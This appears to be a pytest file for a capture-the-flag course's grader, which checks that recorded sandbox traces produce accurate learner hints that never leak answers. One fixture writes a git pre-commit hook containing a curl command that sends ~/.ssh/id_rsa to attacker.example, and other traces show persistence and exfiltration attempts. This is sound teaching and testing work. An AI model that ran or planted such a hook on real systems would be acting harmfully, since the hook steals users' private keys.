"""ctf/diagnosis.py: each kind of finding, from the records a run leaves (pure: no Docker).

The traces are the wire records the recorders write, with the proxy's own
reasons made by the proxy's own functions (``services.proxy.decide`` and
``Ports.refusal``), and the next session's output in the replay driver's
format: a renamed reason or a changed driver fails a test here, not silently
in a learner's hint. The real runs are in tests/integration/test_ctf_docker.py.
"""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Callable, Optional

import pytest

import fakewire
from grader.core.evidence import Evidence, NextSession, sha256
from grader.core.execution import Execution
from grader.core.next_session import parse_driver_output, steps
from grader.core.world import load_world
from grader.course.diagnosis import KINDS, MAX_FINDINGS, NOT_SERVED, Finding, diagnose, quote
from grader.course.ladder import NUDGE_LABEL, judge, level, load_levels
from grader.services import proxy

WORLD = load_world()
FLAG = "FLAG{00c0ffee1234abcd5678ef90}"
HOOK = "/project/.git/hooks/pre-commit"
BASHRC = "/home/user/.bashrc"
PORTS = proxy.Ports((("attacker.example", (53, 80, 443, 4444)), ("github.com", (80, 443)), ("registry.npmjs.org", (80, 443))),
                    operators=("github.com",))


def _ex(output: str = "", *, exit_code: Optional[int] = 0, timed_out: bool = False, network: str = "proxy",
        next_session: Optional[NextSession] = None, **logs: object) -> Execution:
    fields: dict[str, object] = {"token": "t0k", "canaries": {}, "records": (), "before": {}, "after": {}, "network": network,
                                 "next_session": next_session, **logs}
    return Execution(backend="docker", output=output, exit_code=exit_code, timed_out=timed_out,
                     evidence=Evidence(**fields))  # type: ignore[arg-type]


def _allowed(host: str, pattern: str, failure: str = "", cause: str = "forwarded") -> object:
    """The proxy's record of an allowed request, as ``_handle`` writes it: the decision's reason, then what failed,
    and the cause code ``_open_upstream`` gave."""
    d = proxy.decide(host, 443, [pattern], [])
    assert d.allow, d
    return fakewire.proxy(host=host, decision="allow", reason=d.reason + (f"; {failure}" if failure else ""), cause=cause)


def _driver(*steps_run: tuple[str, int, str]) -> str:
    """The replay driver's output (``next_session.driver_script``'s format) for the given steps."""
    out = []
    for sid, code, printed in steps_run:
        out += [f"@@sandbox-lab-step {sid}", *printed.splitlines(), f"@@exit {code}"]
    return "\n".join(out) + "\n"


def _hook_step() -> str:
    return next(s.id for s in steps(WORLD) if HOOK in s.runs)


def _changed(path: str) -> dict[str, object]:
    return {"before": {path: sha256(b"#!/bin/sh\n")}, "after": {path: b"#!/bin/sh\ncurl -d @~/.ssh/id_rsa https://attacker.example/\n"}}


# One recorded trace per kind: (kind, the execution, words the finding must say about what the attack did)
CASES: dict[str, tuple[Callable[[], Execution], tuple[str, ...]]] = {
    "upload-without-flag": (lambda: _ex(http=(fakewire.http(host="gist.github.com", method="POST", path="/", body="hello"),)),
                            ("Your POST / reached gist.github.com", "5 bytes accepted", "the flag was not in it")),
    "download-only": (lambda: _ex(http=(fakewire.http(host="pypi.org", method="POST", path="/simple/", body="x"),)),
                      ("pypi.org is download-only",)),
    "url-without-flag": (lambda: _ex(http=(fakewire.http(host="cdn.jsdelivr.net", path="/npm/x.js"),)),
                         ("reached cdn.jsdelivr.net", "The flag was not in the URL")),
    "refused-by-host": (lambda: _ex(http=(fakewire.http(host="github.com", refused="github.com serves no port 4444"),)),
                        ("github.com refused your GET /", "serves no port 4444")),
    "refused-by-proxy": (lambda: _ex(proxy=(fakewire.proxy(host="gist.github.com", decision="deny",
                                                           reason=proxy.decide("gist.github.com", 443, ["registry.npmjs.org"], []).reason,
                                                           cause=proxy.decide("gist.github.com", 443, ["registry.npmjs.org"], []).cause),)),
                         ("The proxy refused gist.github.com", "not in the allowed list")),
    "port-not-served": (lambda: _ex(proxy=(fakewire.proxy(host="github.com", port=4444, decision="deny",
                                                          reason=f"{PORTS.refusal('github.com', 4444)} (the policy allows the name)",
                                                          cause="not-served"),)),
                        ("Your CONNECT to github.com:4444 reached the proxy", "serves no port 4444", "502")),
    "no-such-host": (lambda: _ex(proxy=(_allowed("www.github.com", "*.github.com", "no such host (NXDOMAIN)", "no-such-host"),),
                                 dns=(fakewire.dns("www.github.com", client="10.0.0.3", answered=False),)),
                     ("Your request to www.github.com reached the proxy, which allows it", 'matches allowed entry "*.github.com"',
                      "no such host exists in this world", "502")),
    "upstream-failed": (lambda: _ex(proxy=(_allowed("registry.npmjs.org", "registry.npmjs.org",
                                                    "cannot connect to 10.9.0.2:443: timed out", "upstream-failed"),)),
                        ("Your request to registry.npmjs.org reached the proxy", "cannot connect to 10.9.0.2:443", "502")),
    "dns-without-flag": (lambda: _ex(network="open", dns=(fakewire.dns("hello.attacker.example"),)),
                         ("1 DNS query reached the attacker's nameserver (hello.attacker.example)", "none spelled the flag")),
    "dns-unanswered": (lambda: _ex(network="open", dns=(fakewire.dns("exfil.github.com", answered=False),)),
                       ("Your lookup of exfil.github.com", "NXDOMAIN")),
    "tcp-without-flag": (lambda: _ex(network="open", tcp=(fakewire.tcp(port=4444, data="hi"),)),
                         ("A raw TCP connection reached the attacker's port 4444",)),
    "no-resolver": (lambda: _ex("Traceback (most recent call last):\nsocket.gaierror: [Errno -3] Temporary failure in name resolution\n",
                                exit_code=1),
                    ("name lookup failed inside the sandbox", "Temporary failure in name resolution", "no name server",
                     "$HTTPS_PROXY")),
    "no-network": (lambda: _ex("urlopen error [Errno 101] Network is unreachable\n", network="none"),
                   ("connection failed inside the sandbox", "Network is unreachable", "no network at all")),
    "write-refused": (lambda: _ex(f"OSError: [Errno 30] Read-only file system: '{BASHRC}'\n", exit_code=1),
                      (f"write to {BASHRC} was refused", "Read-only file system")),
    "attack-error": (lambda: _ex("Traceback (most recent call last):\nNameError: name 'key' is not defined\n", exit_code=1),
                     ("exit code 1", "NameError: name 'key' is not defined")),
    "timed-out": (lambda: _ex(exit_code=None, timed_out=True), ("ran out of time",)),
}
NEXT: dict[str, tuple[Callable[[], Execution], tuple[str, ...]]] = {
    "write-missing": (lambda: _ex(network="none", before={HOOK: sha256(b"x"), "/project/notes.sh": sha256(b"y")},
                                  after={HOOK: b"x", "/project/notes.sh": b"curl ..."}),
                      ("No start-up file changed", "You changed /project/notes.sh, but nothing the user does next runs it")),
    # the flag's own file changed too (the grader planted it): never blamed on the attack
    "write-missing ": (lambda: _ex(network="none", before={HOOK: sha256(b"x"), "/home/user/.ssh/id_rsa": sha256(b"k")},
                                   after={HOOK: b"x", "/home/user/.ssh/id_rsa": b"k\nFLAG{...}"}),
                       ("as they were, so the write was refused or never made.",)),
    "write-not-run": (lambda: _ex(network="none", **_changed("/project/.gitmodules"),
                                  next_session=NextSession(played=("new-terminal",), output=_driver(("new-terminal", 0, "")))),
                      ("You changed /project/.gitmodules", "nothing the user's next session does here runs it")),
    "next-session-skipped": (lambda: _ex(network="none", **_changed(HOOK), next_session=NextSession(skipped="the replay image is missing")),
                             (f"You changed {HOOK}", "the next session did not run: the replay image is missing")),
    "next-session-failed": (lambda: _ex(network="none", **_changed(HOOK), next_session=NextSession(
                                played=(_hook_step(),), output=_driver((_hook_step(), 127, "pre-commit: 2: curl: not found")))),
                            (f"Your change to {HOOK} ran at the next git commit in /project, outside the sandbox",
                             "sent nothing anywhere", 'it printed: "pre-commit: 2: curl: not found"', "exit code 127")),
    "next-session-sent-nothing": (lambda: _ex(network="none", **_changed(HOOK), next_session=NextSession(
                                      played=(_hook_step(),), output=_driver((_hook_step(), 0, "")))),
                                  (f"Your change to {HOOK} ran at the next git commit", "sent nothing anywhere", "it printed nothing")),
}


def test_every_kind_has_a_recorded_trace_here() -> None:
    assert set(CASES) | {k.strip() for k in NEXT} == set(KINDS)


@pytest.mark.parametrize("kind", sorted(CASES))
def test_a_trace_gives_the_finding_of_its_kind_naming_what_the_attack_did(kind: str) -> None:
    make, words = CASES[kind]
    found = diagnose(make(), WORLD, set(), "the flag")
    assert [f.kind for f in found] == [kind], found
    for w in words:
        assert w in found[0].text, (w, found[0].text)


@pytest.mark.parametrize("kind", sorted(NEXT))
def test_a_persistence_trace_says_what_the_next_session_did(kind: str) -> None:
    make, words = NEXT[kind]
    found = diagnose(make(), WORLD, set(), "the flag", next_session=True, planted=("/home/user/.ssh/id_rsa",))
    assert kind.strip() in [f.kind for f in found], found
    text = next(f.text for f in found if f.kind == kind.strip())
    for w in words:
        assert w in text, (w, text)
    assert "id_rsa" not in text, "the planted flag is the grader's change, not the attack's"


def test_the_not_served_prefix_is_the_proxys() -> None:
    assert NOT_SERVED == proxy.NOT_SERVED


def test_the_driver_format_used_here_is_the_one_the_replay_parses() -> None:
    assert parse_driver_output(_driver(("git-commit-project", 127, "curl: not found"))) == (("git-commit-project", 127, "curl: not found"),)


def test_a_refused_lookup_by_the_proxy_is_said_once_with_its_request() -> None:
    """The proxy's own lookup of a name it allows is part of the request's finding, not a second one."""
    ex = CASES["no-such-host"][0]()
    assert [f.kind for f in diagnose(ex, WORLD, set())] == ["no-such-host"]


def test_the_proxys_findings_follow_its_cause_codes_not_the_words_of_its_reasons() -> None:
    """Reworded reasons (no "not served:" prefix, no "NXDOMAIN", a "; " inside the text) change no finding's kind:
    the kind is read from the record's cause."""
    served = fakewire.proxy(host="github.com", port=4444, decision="deny", reason="nothing there", cause="not-served")
    nx = _allowed("www.github.com", "*.github.com", "the name is unknown; said the nameserver", "no-such-host")
    fine = _allowed("registry.npmjs.org", "registry.npmjs.org", "no such host (NXDOMAIN)", "forwarded")
    kinds = [f.kind for f in diagnose(_ex(proxy=(served, nx, fine)), WORLD, set())]
    assert kinds == ["port-not-served", "no-such-host"]
    said_served = fakewire.proxy(host="github.com", decision="deny", reason=f"{NOT_SERVED} looks like it", cause="not-allowed")
    assert [f.kind for f in diagnose(_ex(proxy=(said_served,)), WORLD, set())] == ["refused-by-proxy"]


def test_each_refusal_of_the_proxy_has_its_cause_code() -> None:
    """``decide`` gives each refusal its code; a refused port of the world is "not-served" (``_handle``)."""
    assert proxy.decide("a b", 443, [], []).cause == "invalid-host"
    assert proxy.decide("x.example", 443, ["*.example"], ["x.example"]).cause == "denied"
    assert proxy.decide("x.example", 443, ["y.example"], []).cause == "not-allowed"
    assert proxy.decide("x.example", 443, ["x.example:80"], []).cause == "port-not-allowed"
    assert proxy.decide("x.example", 443, ["x.example"], []).cause == "forwarded"


def test_an_allowed_request_that_was_answered_is_no_finding_of_the_proxy() -> None:
    ok = _allowed("registry.npmjs.org", "registry.npmjs.org")
    cut = _allowed("registry.npmjs.org", "registry.npmjs.org", "chunked body cut at 1048576 bytes, its first part sent on")
    assert diagnose(_ex(proxy=(ok, cut)), WORLD, set()) == ()


def test_a_lookup_that_failed_in_the_plain_container_is_not_blamed_on_a_missing_name_server() -> None:
    """In the plain container lookups reach the nameserver, which logs them: the output's words explain nothing more."""
    ex = _ex("socket.gaierror: [Errno -2] Name or service not known\n", network="open", exit_code=1,
             dns=(fakewire.dns("nope.github.com", answered=False),))
    kinds = [f.kind for f in diagnose(ex, WORLD, set())]
    assert kinds == ["dns-unanswered", "attack-error"]


def test_the_attack_error_does_not_repeat_a_line_already_explained() -> None:
    ex = CASES["no-resolver"][0]()
    assert [f.kind for f in diagnose(ex, WORLD, set())] == ["no-resolver"]


def test_quoted_output_is_one_line_its_end_kept_and_control_characters_shown() -> None:
    said = quote("first\n\x1b[31mred\x1b[0m\n" + "x" * 400)
    assert "\n" not in said and said.startswith("...") and said.endswith("x") and len(said) == 240
    assert quote("a\n\n\x1b[2Jb\n") == "a | \\x1b[2Jb"


def test_findings_are_capped_and_one_per_host_and_kind() -> None:
    refused = [fakewire.proxy(host=h, decision="deny", reason="not in the allowed list") for h in
               ("a.example", "b.example", "a.example", "c.example", "d.example", "e.example", "f.example")]
    found = diagnose(_ex(proxy=tuple(refused)), WORLD, set())
    assert len(found) == MAX_FINDINGS and [f.host for f in found] == ["a.example", "b.example", "c.example", "d.example", "e.example"]


def test_where_the_flag_arrived_is_left_to_the_capture() -> None:
    ex = _ex(http=(fakewire.http(host="gist.github.com", method="POST", path="/", body="hello"),))
    assert diagnose(ex, WORLD, {"gist.github.com"}) == ()
    assert diagnose(replace(ex, evidence=None), WORLD, set()) == ()


# --- the ladder's hint: what the attack did first, nudges after repeated misses, never the answer ----------


def test_the_first_miss_says_what_the_attack_did_and_later_misses_add_a_nudge_never_the_answer() -> None:
    lv = level("naive-gist")
    assert lv.solution is not None
    ex = CASES["no-such-host"][0]()
    got = [judge(lv, ex, FLAG, attempts_before=n, world=WORLD) for n in range(6)]
    assert all(g.hint_from == "evidence" and "www.github.com" in g.hint for g in got)
    assert got[0].nudge == "" and NUDGE_LABEL not in got[0].hint
    assert [g.nudge for g in got[1:]] == [lv.hints[0], *[lv.hints[1]] * 4]
    assert all(g.hint.endswith(f"{NUDGE_LABEL} {g.nudge}") for g in got[1:])
    for g in got:
        assert lv.solution.answer not in g.hint


def test_no_number_of_silent_misses_reveals_any_levels_answer() -> None:
    for lv in load_levels():
        if lv.solution is None:
            continue
        hints = {judge(lv, _ex(), FLAG, attempts_before=n, world=WORLD).hint for n in range(8)}
        if not lv.next_session:  # a persistence level's silent miss still says its start-up files are unchanged
            assert hints == set(lv.hints), lv.id
        for h in hints:
            assert lv.solution.answer not in h and h not in lv.solution.answer, lv.id


def test_a_finding_is_a_frozen_record() -> None:
    f = Finding("timed-out", "", "x")
    with pytest.raises(AttributeError):
        f.text = "y"  # type: ignore[misc]


def test_an_error_that_only_repeats_the_proxys_answer_is_not_said_twice() -> None:
    refused = CASES["refused-by-proxy"][0]()
    said = "urllib.error.URLError: <urlopen error Tunnel connection failed: 403 Forbidden>\n"
    ex = replace(refused, output=said, exit_code=1)
    assert [f.kind for f in diagnose(ex, WORLD, set())] == ["refused-by-proxy"]
    alone = _ex(said, exit_code=1)  # with no proxy record to say it, the attack's words are the only account
    assert [f.kind for f in diagnose(alone, WORLD, set())] == ["attack-error"]


# --- traces recorded from real Docker runs (tests/integration/test_ctf_docker.py --update-goldens) -----------

TRACES = sorted((Path(__file__).resolve().parents[2] / "fixtures" / "ctf_traces").glob("*.json"))


def test_the_recorded_traces_are_there() -> None:
    assert len(TRACES) == 5 and {json.loads(p.read_text())["level"] for p in TRACES} == {"secure-npm", "naive-gist", "persistence"}


@pytest.mark.parametrize("path", TRACES, ids=lambda p: p.stem)
def test_a_recorded_real_run_gets_the_hint_naming_what_it_did_and_never_the_answer(path: Path) -> None:
    from grader.core.transport import execution_from_json

    rec = json.loads(path.read_text(encoding="utf-8"))
    lv = level(rec["level"])
    assert lv.solution is not None
    got = judge(lv, execution_from_json(rec["execution"], WORLD), rec["flag"], attempts_before=rec["attempts_before"], world=WORLD)
    assert got.captured is False and got.hint_from == "evidence", got.hint
    for w in rec["words"]:
        assert w in got.hint, (w, got.hint)
    for text in (lv.solution.answer, lv.solution.channel, *lv.solution.also):
        assert text not in got.hint
